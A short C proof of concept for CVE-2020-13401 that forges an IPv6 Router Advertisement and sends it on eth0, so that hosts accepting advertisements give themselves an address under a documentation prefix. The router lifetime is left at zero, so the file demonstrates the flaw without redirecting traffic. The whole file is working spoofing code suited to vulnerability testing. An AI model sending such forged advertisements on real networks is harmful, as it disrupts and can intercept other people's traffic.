/*
 * CVE-2020-13401: tells the link eth0 that there is a router with the prefix 2001:db8:bad:: (RFC 4861), which a host with
 * accept_ra believes, and gives itself an address of. The router's lifetime is 0: it becomes nobody's default route.
 */
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip6.h>
#include <netpacket/packet.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

struct packet {
  struct ip6_hdr ip;
  struct nd_router_advert advert;
  struct nd_opt_prefix_info prefix;
} __attribute__((packed));

static uint16_t checksum(const struct packet *packet) {
  struct {
    struct in6_addr from, to;
    uint32_t length, next;
    struct nd_router_advert advert;
    struct nd_opt_prefix_info prefix;
  } __attribute__((packed)) all = {packet->ip.ip6_src, packet->ip.ip6_dst, htonl(sizeof(packet->advert) + sizeof(packet->prefix)),
                                   htonl(IPPROTO_ICMPV6), packet->advert, packet->prefix};
  uint32_t sum = 0;
  const unsigned char *bytes = (const unsigned char *)&all;
  for (size_t i = 0; i < sizeof(all); i += 2) sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

int main(void) {
  struct packet packet = {.ip = {.ip6_flow = htonl(6u << 28), .ip6_plen = htons(sizeof(packet.advert) + sizeof(packet.prefix)),
                                 .ip6_nxt = IPPROTO_ICMPV6, .ip6_hlim = 255},
                          .advert = {.nd_ra_type = ND_ROUTER_ADVERT, .nd_ra_curhoplimit = 64},
                          .prefix = {.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION, .nd_opt_pi_len = 4, .nd_opt_pi_prefix_len = 64,
                                     .nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO,
                                     .nd_opt_pi_valid_time = htonl(60), .nd_opt_pi_preferred_time = htonl(60)}};
  inet_pton(AF_INET6, "fe80::bad", &packet.ip.ip6_src);
  inet_pton(AF_INET6, "ff02::1", &packet.ip.ip6_dst);
  inet_pton(AF_INET6, "2001:db8:bad::", &packet.prefix.nd_opt_pi_prefix);
  packet.advert.nd_ra_cksum = checksum(&packet);
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETHERTYPE_IPV6), .sll_ifindex = (int)if_nametoindex("eth0"),
                           .sll_halen = ETH_ALEN, .sll_addr = {0x33, 0x33, 0, 0, 0, 1}};
  int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETHERTYPE_IPV6));
  if (fd < 0 || sendto(fd, &packet, sizeof(packet), 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
    perror("advertise");
    return 1;
  }
  puts("sent");
  return 0;
}
